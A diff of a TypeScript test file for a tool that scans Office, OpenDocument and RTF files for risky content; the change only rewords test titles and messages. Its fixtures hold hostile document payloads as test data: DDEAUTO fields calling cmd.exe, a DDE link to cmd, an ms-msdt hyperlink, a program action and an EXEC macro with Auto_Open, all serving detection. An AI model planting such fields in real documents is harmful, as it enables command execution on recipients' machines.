@@ -13,8 +13,8 @@ import { PROGRAM, WORDS } from '../testing/samples.ts';
 const BAIT = 'login.example.com';
 const LINK = `https://${BAIT}/x`;
 const FETCHES = 'a document that fetches a template or an object from elsewhere when opened';
-const COMMANDS = 'a document that has another program run something (DDE or an action)';
-const MACROS_UNREAD = 'what the macros in it do is not worked out here';
+const COMMANDS = 'a document that makes another program run a command (DDE or an action)';
+const MACROS_UNREAD = 'its macros are not analyzed';
 
 function documentWith(files: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
   const all = { '[Content_Types].xml': 'x', 'word/document.xml': `<w:p><w:t>${WORDS}</w:t></w:p>`, ...files };
@@ -29,7 +29,7 @@ function relation(type: string, target: string): string {
   return `<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`;
 }
 
-describe('what an Office document holds beside harmless words', () => {
+describe('content of an Office document beside benign words', () => {
   it.each<[string, Readonly<Record<string, string | Uint8Array>>]>([
     ['words that stand as they are', { 'word/footnotes.xml': `<w:t><![CDATA[see ${LINK} now]]></w:t>` }],
     ['relations in capital letters', { 'word/_rels/document.xml.RELS': relation('hyperlink', LINK) }],
@@ -66,7 +66,7 @@ describe('what an Office document holds beside harmless words', () => {
     expect(analysis.unsupported).toBeUndefined();
   });
 
-  it('is found: a program by the name of a picture', async () => {
+  it('is found: a program with the name of a picture', async () => {
     const analysis = await analyzeSample(documentWith({ 'word/media/a.png': PROGRAM }), 'a.docx');
     expect(hasKeyOf(analysis, 'sha256', sha256(PROGRAM))).toBe(true);
   });
@@ -79,7 +79,7 @@ describe('what an Office document holds beside harmless words', () => {
     ['image', 'https://www.example.com/x.png', []],
     ['hyperlink', LINK, []],
     ['hyperlink', 'ms-msdt:/id PCWDiagnostic', [COMMANDS]],
-  ])('is named for what it fetches, or is not: %s %s', async (type, target, signs) => {
+  ])('is a finding by what it fetches, or is not: %s %s', async (type, target, signs) => {
     const document = documentWith({ 'word/_rels/settings.xml.rels': relation(type, target) });
     expect(signsOf(await analyzeSample(document, 'a.docx'))).toEqual(signs);
   });
@@ -89,21 +89,21 @@ describe('what an Office document holds beside harmless words', () => {
     ['a simple field', { 'word/a.xml': '<w:fldSimple w:instr=" DDEAUTO c:\\x "/>' }],
     ['an action', { 'ppt/slides/slide1.xml': '<a:hlinkClick action="ppaction://program"/>' }],
     ['a link of a table', { 'xl/externalLinks/a.xml': '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>' }],
-  ])('is named for the command in %s', async (_, files) => {
+  ])('is a finding for the command in %s', async (_, files) => {
     expect(signsOf(await analyzeSample(documentWith(files), 'a.docx'))).toEqual([COMMANDS]);
   });
 
-  it('is no command where it is only spoken of', async () => {
+  it('is not a command if it is only mentioned', async () => {
     const document = documentWith({ 'word/a.xml': '<w:t>DDEAUTO cmd.exe is how it was done</w:t>' });
     expect(signsOf(await analyzeSample(document, 'a.docx'))).toEqual([]);
   });
 
-  it('are macros, of which is said that nobody worked them out', async () => {
+  it('is reported as not analyzed: macros', async () => {
     const macros = await analyzeSample(documentWith({ 'word/vbaProject.bin': 'x' }), 'a.docm');
     expect(macros.unsupported).toBe(MACROS_UNREAD);
     const sheet = { 'xl/macrosheets/sheet1.xml': '<c><f>EXEC("calc")</f></c>' };
     const old = await analyzeSample(documentWith(sheet), 'a.xlsm');
-    expect(signsOf(old)).toEqual(['a document that holds macros']);
+    expect(signsOf(old)).toEqual(['a document with macros']);
     expect(old.unsupported).toBe(MACROS_UNREAD);
     const names = { 'xl/workbook.xml': '<definedName name="_xlnm.Auto_Open">M!A1</definedName>' };
     expect(signsOf(await analyzeSample(documentWith({ ...sheet, ...names }), 'a.xlsm'))).toEqual([
@@ -111,7 +111,7 @@ describe('what an Office document holds beside harmless words', () => {
     ]);
   });
 
-  it('are no macros: the empty list of them in an OpenDocument text', async () => {
+  it('is not a macro: the empty list of macros in an OpenDocument text', async () => {
     const text = zipSync({
       mimetype: strToU8('application/vnd.oasis.opendocument.text'),
       'META-INF/manifest.xml': strToU8('x'),
@@ -124,45 +124,47 @@ describe('what an Office document holds beside harmless words', () => {
     expect(analysis.unsupported).toBeUndefined();
   });
 
-  it('is judged to its end, however many pages a presentation has', async () => {
+  it('is analyzed to the end of a presentation with many pages', async () => {
     const pages = Array.from({ length: 90 }, (_, at) => [`ppt/slides/slide${at}.xml`, `<a:t>${WORDS}</a:t>`]);
     const analysis = await analyzeSample(documentWith(Object.fromEntries(pages)), 'a.pptx');
     expect(modelsAsked(analysis)).toEqual(['text_model']);
     expect(analysis.unsupported).toBeUndefined();
   });
 
-  it('is encrypted, as its list of files says', async () => {
+  it('is encrypted according to its list of files', async () => {
     const text = zipSync({
       mimetype: strToU8('x'),
       'META-INF/manifest.xml': strToU8('<manifest:encryption-data/>'),
       'content.xml': strToU8('\x01\x02'),
       'meta.rdf': strToU8(WORDS),
     });
-    expect((await analyzeSample(text, 'a.odt')).unsupported).toBe('files in it are locked with a password');
+    expect((await analyzeSample(text, 'a.odt')).unsupported).toBe(
+      'files in it are protected with a password',
+    );
   });
 
-  it('is a document in one piece of XML, of which is said that more may be in it', async () => {
+  it('is reported as incomplete: a document in one piece of XML', async () => {
     const text = `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:t>${WORDS}</w:t>`;
-    expect((await analyzeSample(text, 'a.xml')).unsupported).toContain('a document in XML');
+    expect((await analyzeSample(text, 'a.xml')).unsupported).toContain('an XML document');
     const plain = `<?xml version="1.0"?><note>${WORDS}</note>`;
     expect((await analyzeSample(plain, 'a.xml')).unsupported).toBeUndefined();
   });
 
-  it('is a password, which keeps everybody out', async () => {
+  it('is protected with a password', async () => {
     const start = Buffer.from('d0cf11e0a1b11ae1', 'hex');
     const locked = Buffer.concat([start, Buffer.alloc(99), Buffer.from('EncryptedPackage', 'utf16le')]);
     expect((await analyzeSample(locked, 'a.docx')).unsupported).toBe(
-      'it is a document locked with a password',
+      'it is a document protected with a password',
     );
   });
 
-  it('is read in no time: relations that never end', async () => {
+  it('is read quickly: relations that never end', async () => {
     const document = documentWith({ 'word/_rels/a.rels': `<Relationship Target='${'"a'.repeat(300_000)}` });
     expect(await processorMs(() => analyzeSample(document, 'a.docx'))).toBeLessThan(1000);
   });
 });
 
-describe('what rich text holds beside harmless words', () => {
+describe('content of rich text beside benign words', () => {
   it.each([
     ['a template', '{\\*\\template https://login.example.com/x.dotm}', FETCHES],
     [
@@ -171,11 +173,11 @@ describe('what rich text holds beside harmless words', () => {
       FETCHES,
     ],
     ['a command', '{\\field{\\*\\fldinst DDEAUTO cmd.exe "/k calc"}}', COMMANDS],
-  ])('is named: %s', async (_, group, sign) => {
+  ])('is found: %s', async (_, group, sign) => {
     expect(signsOf(await analyzeSample(`{\\rtf1 ${WORDS}${group}}`, 'a.rtf'))).toEqual([sign]);
   });
 
-  it('is said to be unread: an embedded object', async () => {
+  it('is reported as unread: an embedded object', async () => {
     const object = '{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000}}';
     expect((await analyzeSample(`{\\rtf1 ${WORDS}${object}}`, 'a.rtf')).unsupported).toContain('object');
   });
